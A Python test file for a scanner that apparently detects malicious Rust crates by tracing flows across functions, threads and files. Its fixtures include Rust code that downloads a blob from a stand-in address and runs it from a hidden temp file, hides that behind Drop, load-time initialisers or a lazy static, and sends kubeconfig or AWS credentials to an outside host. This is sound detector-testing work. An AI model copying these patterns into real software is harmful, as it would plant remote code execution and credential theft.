"""Flows joined along the crate's own calls: across functions, threads and files, with
the limits that keep ordinary programs from joining unrelated steps."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cratewatch.scan.callgraph import CallGraph, _Spans, arms_holding, file_functions
from cratewatch.scan.crate import CrateScan, scan_path

MANIFEST = '[package]\nname = "logflux"\nversion = "0.3.1"\n'

# A logger whose background thread fetches a program and starts it; each step in a
# helper of its own, in two files (inert: a documentation address).
LIB = """
mod fetch;
mod run;

pub struct Logger;

impl Logger {
    pub fn init() -> Logger {
        std::thread::spawn(refresh);
        Logger
    }
}

fn refresh() {
    if let Some(blob) = fetch::get("http://192.0.2.7/agent") {
        run::launch(&blob);
    }
}
"""
FETCH = """
pub fn get(url: &str) -> Option<Vec<u8>> {
    let body = ureq::get(url).call().ok()?;
    let mut out = Vec::new();
    body.into_reader().read_to_end(&mut out).ok()?;
    Some(out)
}
"""
RUN = """
use std::process::Command;

pub fn launch(blob: &[u8]) {
    let path = std::env::temp_dir().join(".flux");
    let _ = std::fs::write(&path, blob);
    let _ = Command::new(&path).spawn();
}
"""


def scan(tmp_path: Path, files: dict[str, str]) -> CrateScan:
    crate = tmp_path / "crate"
    for name, text in {"Cargo.toml": MANIFEST, **files}.items():
        (crate / name).parent.mkdir(parents=True, exist_ok=True)
        (crate / name).write_text(text)
    return scan_path(crate)


def joined(result: CrateScan, rule: str) -> list[str]:
    return [
        f"{e.file}:{e.line} {e.snippet}"
        for e in result.findings
        if e.rule == rule and "joins along calls" in e.snippet
    ]


def test_download_and_execute_in_helpers_of_other_files_are_one_flow(tmp_path: Path) -> None:
    result = scan(tmp_path, {"src/lib.rs": LIB, "src/fetch.rs": FETCH, "src/run.rs": RUN})
    flows = joined(result, "threat-download-execute")
    assert len(flows) == 1, result.findings
    assert flows[0].startswith("src/lib.rs:14 fn refresh joins along calls: ")
    assert "refresh → get: network (src/fetch.rs:3)" in flows[0]
    assert "refresh → launch: process-spawn-path (src/run.rs:7)" in flows[0]


def test_a_function_handed_to_a_thread_is_called_there(tmp_path: Path) -> None:
    lib = LIB.replace("std::thread::spawn(refresh);", "std::thread::spawn(move || poll());")
    lib = lib.replace("fn refresh()", "fn poll()")
    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
    assert joined(result, "threat-download-execute")


def test_a_function_imported_under_another_name_is_called_by_it(tmp_path: Path) -> None:
    lib = LIB.replace("mod run;", "mod run;\nuse crate::run::launch as apply;")
    lib = lib.replace("run::launch(&blob);", "apply(&blob);")
    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
    flows = joined(result, "threat-download-execute")
    assert len(flows) == 1, result.findings
    assert "refresh → launch: process-spawn-path (src/run.rs:7)" in flows[0]


def test_steps_no_call_joins_are_not_a_flow(tmp_path: Path) -> None:
    lib = LIB.replace("run::launch(&blob);", "let _ = blob;")
    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
    assert joined(result, "threat-download-execute") == []


def test_steps_along_calls_in_another_order_are_no_download_run(tmp_path: Path) -> None:
    """A browser started, then connected to and a file written (a headless renderer):
    the run comes before the download where the paths part, so it runs nothing fetched."""
    lib = LIB.replace(
        """    if let Some(blob) = fetch::get("http://192.0.2.7/agent") {
        run::launch(&blob);
    }""",
        """    run::launch(b"");
    let _ = fetch::get("http://192.0.2.7/agent");""",
    )
    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
    assert joined(result, "threat-download-execute") == []


# A CLI whose `main` runs one subcommand: `sync` fetches, `launch` writes and runs.
MAIN = """
mod fetch;
mod run;

fn main() {
    let command = std::env::args().nth(1).unwrap_or_default();
    match command.as_str() {
        "sync" => {
            let _ = fetch::get("http://192.0.2.7/agent");
        }
        "launch" => run::launch(b""),
        _ => eprintln!("usage: tool sync|launch"),
    }
}
"""


def test_subcommands_main_runs_once_are_apart_but_not_in_a_command_loop(tmp_path: Path) -> None:
    files = {"src/fetch.rs": FETCH, "src/run.rs": RUN}
    result = scan(tmp_path, {"src/main.rs": MAIN, **files})
    assert joined(result, "threat-download-execute") == []
    # main loops over commands it reads: one run fetches, then launches
    looping = MAIN.replace("    let command =", "    loop {\n    let command =")
    looping = looping.replace("    }\n}\n", "    }\n    }\n}\n")
    result = scan(tmp_path / "loop", {"src/main.rs": looping, **files})
    assert joined(result, "threat-download-execute")
    # a step outside the arms is taken with either arm
    fetching = MAIN.replace('"launch" => run::launch(b""),', '"launch" => {}')
    fetching = fetching.replace("    match command", '    run::launch(b"");\n    match command')
    result = scan(tmp_path / "before", {"src/main.rs": fetching, **files})
    assert joined(result, "threat-download-execute") == []  # (the run comes first)
    fetching = MAIN.replace('"launch" => run::launch(b""),', '"launch" => {}')
    fetching = fetching.replace("    }\n}\n", '    }\n    run::launch(b"");\n}\n')
    result = scan(tmp_path / "after", {"src/main.rs": fetching, **files})
    assert joined(result, "threat-download-execute")


def test_the_arms_that_hold_a_step_s_lines() -> None:
    matches = [[(3, 5), (6, 8)], [(10, 12), (13, 14)]]
    assert arms_holding(matches, (4,)) == (frozenset({0}), frozenset())
    assert arms_holding(matches, (4, 7)) == (frozenset({0, 1}), frozenset())
    assert arms_holding(matches, (4, 9)) == (frozenset(), frozenset())  # one line outside
    # a name on more lines than are looked at is taken as named everywhere
    assert arms_holding(matches, tuple(range(3, 3 + 65))) == (frozenset(), frozenset())


def test_a_flow_spread_over_large_functions_is_not_joined(tmp_path: Path) -> None:
    """A tool that downloads in one subsystem and runs commands in another is not a
    payload spread over helpers."""
    padding = "\n".join(f"    let _v{n} = {n};" for n in range(250))
    fetch = FETCH.replace("Some(out)", padding + "\n    Some(out)")
    run = RUN.replace("let path", padding + "\n    let path")
    result = scan(tmp_path, {"src/lib.rs": LIB, "src/fetch.rs": fetch, "src/run.rs": run})
    assert joined(result, "threat-download-execute") == []


def test_the_build_script_and_the_library_are_apart(tmp_path: Path) -> None:
    """The build script cannot call the library's functions: no flow joins the two."""
    build = 'fn main() { helper(); }\nfn helper() { let _ = std::process::Command::new("cc"); }\n'
    lib = 'pub fn helper() -> Option<()> { let _ = ureq::get("http://192.0.2.7/"); None }\n'
    result = scan(tmp_path, {"build.rs": build, "src/lib.rs": lib})
    assert joined(result, "threat-download-execute") == []


def test_credentials_sent_along_calls_need_a_destination_of_the_crate_s_own(
    tmp_path: Path,
) -> None:
    """A kubeconfig tool reads credentials and talks to the server they name; a stealer
    sends them to its own address."""
    lib = """
    mod creds;
    pub fn sync() { let key = creds::load(); send(&key); }
    fn send(body: &str) { let _ = ureq::post(&server()).send_string(body); }
    fn server() -> String { std::env::var("KUBE_SERVER").unwrap_or_default() }
    """
    creds = """
    pub fn load() -> String {
        let home = std::env::var("HOME").unwrap_or_default();
        std::fs::read_to_string(format!("{home}/.kube/config")).unwrap_or_default()
    }
    """
    # (a kubeconfig is where tools of its kind read: `threat-credential-location-sent`)
    tool = scan(tmp_path / "tool", {"src/lib.rs": lib, "src/creds.rs": creds})
    assert joined(tool, "threat-credential-location-sent") == []
    stealer_lib = lib.replace(
        'std::env::var("KUBE_SERVER").unwrap_or_default()', '"http://198.51.100.9/k".into()'
    )
    stealer = scan(tmp_path / "stealer", {"src/lib.rs": stealer_lib, "src/creds.rs": creds})
    assert joined(stealer, "threat-credential-location-sent")


@pytest.mark.parametrize(("trait", "counts"), [("Display", True), ("ProvideCredentials", False)])
def test_a_credential_providers_impl_is_no_hidden_entry(
    tmp_path: Path, trait: str, counts: bool
) -> None:
    """Code nobody called for (a `Display` impl) has no business reading credentials and
    reaching the network; a credentials provider the SDK calls is there to do just that."""
    lib = f"""
    mod creds;
    pub struct P;
    impl {trait} for P {{
        fn provide(&self) -> String {{ let key = creds::load(); send(&key); key }}
    }}
    fn send(body: &str) {{ let _ = ureq::post(&server()).send_string(body); }}
    fn server() -> String {{ std::env::var("STS_ENDPOINT").unwrap_or_default() }}
    """
    creds = """
    pub fn load() -> String {
        let home = std::env::var("HOME").unwrap_or_default();
        std::fs::read_to_string(format!("{home}/.aws/credentials")).unwrap_or_default()
    }
    """
    result = scan(tmp_path, {"src/lib.rs": lib, "src/creds.rs": creds})
    assert bool(joined(result, "threat-credential-exfiltration")) is counts


def test_entry_points_are_named(tmp_path: Path) -> None:
    source = b"""
    struct Guard;
    impl Drop for Guard { fn drop(&mut self) { beacon(); } }
    #[used]
    #[link_section = ".init_array"]
    static INIT: extern "C" fn() = boot;
    static CONFIG: Lazy<String> = Lazy::new(|| beacon());
    extern "C" fn boot() {}
    pub fn api() {}
    fn private() {}
    #[proc_macro_derive(Thing)]
    pub fn derive(input: TokenStream) -> TokenStream { input }
    fn beacon() {}
    """
    entries = {f.name: f.entry for f in file_functions("src/lib.rs", source, True)}
    assert entries == {
        "drop": "Drop (runs when a value is dropped)",
        "INIT": "",
        "CONFIG": "lazily initialised static",
        "boot": "load-time initialiser",
        "api": "public function",
        "private": "",
        "derive": "procedural macro",
        "beacon": "",
    }


def test_entries_the_host_a_library_is_loaded_into_calls() -> None:
    source = b"""
    extern "C" fn setup() {}
    core::arch::global_asm!(
        ".pushsection .init_array,\\"aw\\"", ".quad {f}", ".popsection", f = sym setup
    );
    #[no_mangle]
    pub extern "C" fn JNI_OnLoad(vm: *mut c_void, _: *mut c_void) -> i32 { 0 }
    #[no_mangle]
    pub extern "C" fn checksum(p: *const u8) -> u32 { 0 }
    #[pymodule]
    fn fastcsv(m: &PyModule) -> PyResult<()> { Ok(()) }
    #[wasm_bindgen(start)]
    pub fn start() {}
    struct Report;
    impl Termination for Report { fn report(self) -> ExitCode { ExitCode::SUCCESS } }
    trait Own { fn run(&self); }
    impl Own for Report { fn run(&self) {} }
    """
    entries = {f.name: f.entry for f in file_functions("src/lib.rs", source, True)}
    assert entries["setup"] == "load-time initialiser"
    assert entries["JNI_OnLoad"] == "load-time initialiser (JNI_OnLoad)"
    assert entries["checksum"] == "exported symbol"
    assert entries["fastcsv"] == entries["start"] == "load-time initialiser"
    assert entries["report"].startswith("impl of Termination")
    # a trait the unit defines is called by its own code: flows.py does not count it hidden
    assert entries["run"].startswith("impl of Own")


def test_ambiguous_names_are_not_followed_unless_a_path_says_which() -> None:
    """``x.new()`` could be any of many ``new``: following all would join everything.
    ``T0::new()`` names its type, ``net::fetch()`` its module (file), and
    ``Command::new()`` a type that is not the crate's."""
    source = "\n".join(f"impl T{n} {{ fn new() {{}} }}" for n in range(6))
    source += '\nfn f(x: T1) { x.new(); }\nfn g() { T0::new(); Command::new("sh"); }'
    graph = CallGraph(file_functions("src/lib.rs", source.encode(), False))
    net = CallGraph(
        [
            *file_functions("src/lib.rs", b"fn run() { net::fetch(); fs::write(); }", False),
            *file_functions("src/net.rs", b"pub fn fetch() {}\npub fn write() {}", False),
            *file_functions("src/disk.rs", b"pub fn fetch() {}", False),
        ]
    )
    index = {f.name: i for i, f in enumerate(graph.functions)}
    assert graph.callees[index["f"]] == ()
    assert graph.callees[index["g"]] == (0,)  # T0's new, not T1's
    run = next(i for i, f in enumerate(net.functions) if f.name == "run")
    called = {(net.functions[i].file, net.functions[i].name) for i in net.callees[run]}
    assert called == {("src/net.rs", "fetch"), ("src/net.rs", "write")}


def test_a_module_s_path_or_a_name_alone_calls_no_type_s_function() -> None:
    """``thread::spawn(..)`` and ``spawn(..)`` are not ``Engine::spawn``: an impl's
    function is called by its type's path (``Engine::spawn``, ``Self::spawn``), among a
    macro's tokens too (``vec![Addr::new(ip)]`` is not the crate's ``Client::new``)."""
    source = (
        "impl Engine { fn spawn(path: &str) {} }\n"
        "impl Client { fn new() -> Client { Client } }\n"
        "fn spawn_free() {}\n"
        "fn run() { std::thread::spawn(move || play()); spawn_free(); }\n"
        'fn play() { Engine::spawn("x"); }\n'
        "fn pins() -> Vec<Addr> { vec![Addr::new(ip)] }\n"
        "fn connect() -> Vec<Client> { vec![Client::new()] }\n"
    )
    graph = CallGraph(file_functions("src/lib.rs", source.encode(), False))
    names = [f.name for f in graph.functions]

    def called(name: str) -> list[str]:
        return sorted(names[i] for i in graph.callees[names.index(name)])

    assert called("run") == ["play", "spawn_free"]
    assert called("play") == ["spawn"]
    assert called("pins") == []
    assert called("connect") == ["new"]


HIDDEN_LIB = """
mod fetch;
mod run;

pub struct Session;

ENTRY

fn refresh() {
    if let Some(blob) = fetch::get(&std::env::args().nth(1).unwrap_or_default()) {
        run::launch(&blob);
    }
}
"""


def test_a_flow_behind_an_entry_nobody_calls_weighs_like_build_code(tmp_path: Path) -> None:
    """Fetch-and-run reached from Drop or a load-time initialiser is what a payload
    hides behind: malicious alone. The same reached from a public function is one
    tactic: suspicious."""
    entries = {
        "drop": "impl Drop for Session { fn drop(&mut self) { refresh(); } }",
        "init": '#[used]\n#[link_section = ".init_array"]\nstatic INIT: extern "C" fn() = boot;\n'
        'extern "C" fn boot() { refresh(); }',
        "api": "pub fn sync() { refresh(); }",
        "foreign": "impl Termination for Session { fn report(self) -> ExitCode { refresh(); 0 } }",
        "own": "trait Job { fn go(&self); }\nimpl Job for Session { fn go(&self) { refresh(); } }",
    }
    verdicts = {}
    for name, entry in entries.items():
        lib = HIDDEN_LIB.replace("ENTRY", entry)
        result = scan(
            tmp_path / name, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN}
        )
        verdicts[name] = (result.verdict.value, result.reasons)
    assert verdicts["drop"][0] == "malicious"
    assert (
        "threat-download-execute runs as Drop (runs when a value is dropped) (src/lib.rs)"
        in verdicts["drop"][1]
    )
    assert verdicts["init"][0] == "malicious"
    init = "threat-download-execute runs as load-time initialiser (src/lib.rs)"
    assert init in verdicts["init"][1]
    assert verdicts["api"][0] == "suspicious"
    # a framework's trait is called by the framework; the crate's own trait by its own code
    assert verdicts["foreign"][0] == "malicious"
    assert verdicts["own"][0] == "suspicious"


def test_a_lazy_static_that_fetches_and_runs_is_a_hidden_flow(tmp_path: Path) -> None:
    """Every step inside one lazily initialised static: no function holds them, the
    static does, and it runs on first use."""
    lib = """
    use once_cell::sync::Lazy;
    use std::process::Command;
    pub static AGENT: Lazy<()> = Lazy::new(|| {
        let body = ureq::get(&std::env::args().nth(1).unwrap_or_default()).call().ok();
        let path = std::env::temp_dir().join(".agent");
        let _ = std::fs::write(&path, format!("{body:?}"));
        let _ = Command::new(&path).spawn();
    });
    """
    result = scan(tmp_path, {"src/lib.rs": lib})
    assert result.verdict.value == "malicious", result.reasons
    assert (
        result.reasons[0]
        == "threat-download-execute runs as lazily initialised static (src/lib.rs)"
    )


def test_a_macro_s_body_is_called_where_the_macro_is_invoked(tmp_path: Path) -> None:
    lib = LIB.replace("run::launch(&blob);", "launch!(blob);")
    lib = "macro_rules! launch { ($b:expr) => { run::launch(&$b) }; }\n" + lib
    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
    flows = joined(result, "threat-download-execute")
    assert flows and "refresh → launch! → launch: process-spawn-path (src/run.rs:7)" in flows[0]


@st.composite
def _nested_spans(draw: st.DrawFn) -> list[tuple[int, int]]:
    """Spans as syntax nodes make them: nested or apart, never crossing."""
    spans: list[tuple[int, int]] = []

    def fill(start: int, end: int, depth: int) -> None:
        at = start
        while at < end and depth < 4 and draw(st.booleans()):
            first = draw(st.integers(at, end))
            last = draw(st.integers(first, end))
            if last > first:
                spans.append((first, last))
                fill(first + 1, last - 1, depth + 1)
            at = last + 1

    fill(0, 200, 0)
    return sorted(spans)


@given(_nested_spans(), st.integers(0, 210))
def test_the_innermost_span_holding_a_byte(spans: list[tuple[int, int]], at: int) -> None:
    found = _Spans([s for s, _ in spans], [e for _, e in spans]).innermost(at)
    holding = [i for i, (s, e) in enumerate(spans) if s <= at < e]
    assert found == (max(holding, key=lambda i: spans[i][0]) if holding else None)
